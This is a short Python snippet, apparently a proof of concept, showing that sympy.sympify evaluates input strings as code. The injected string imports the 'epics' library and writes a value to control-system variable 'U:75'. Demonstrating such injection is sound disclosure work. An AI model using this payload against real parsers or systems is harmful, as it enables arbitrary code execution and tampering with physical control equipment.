import sympy

try:
    sympy.sympify("__import__('epics').caput('U:75', 1)")
except sympy.SympifyError:
    pass
